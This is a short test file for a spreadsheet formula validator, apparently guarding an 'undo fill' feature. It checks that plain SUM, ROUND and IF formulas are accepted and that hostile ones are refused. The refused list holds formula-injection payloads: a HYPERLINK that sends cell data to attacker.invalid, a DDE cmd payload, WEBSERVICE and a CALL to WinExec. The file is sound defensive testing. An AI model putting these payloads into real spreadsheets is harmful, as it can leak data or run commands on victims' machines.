import { isRestorableFormula } from "./safeFormula";

describe("which formulas 撤销填充 may write back", () => {
  it.each([
    "=G16",
    "=SUM(H14:H21)+H6",
    "=ROUND(G14*F14/E14,2)",
    "=IF(F14>=E14,G14,G14*F14/E14)",
    "='自评表 (2)'!H14*0.8",
    "=IFERROR(F6/E6,0)",
    '=IF(F14="","",G14)',
  ])("puts back %s", (formula) => {
    expect(isRestorableFormula(formula)).toBe(true);
  });

  it.each([
    '=HYPERLINK("http://attacker.invalid/?d="&B2,"核对")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x")',
    "=[other.xlsx]Sheet1!A1",
    "=INDIRECT(A1)",
    '=CALL("kernel32","WinExec")',
    "=SUM({1,2})",
    "=A1;B1",
    "G16",
    `=${"1+".repeat(600)}1`,
  ])("refuses %s", (formula) => {
    expect(isRestorableFormula(formula)).toBe(false);
  });
});
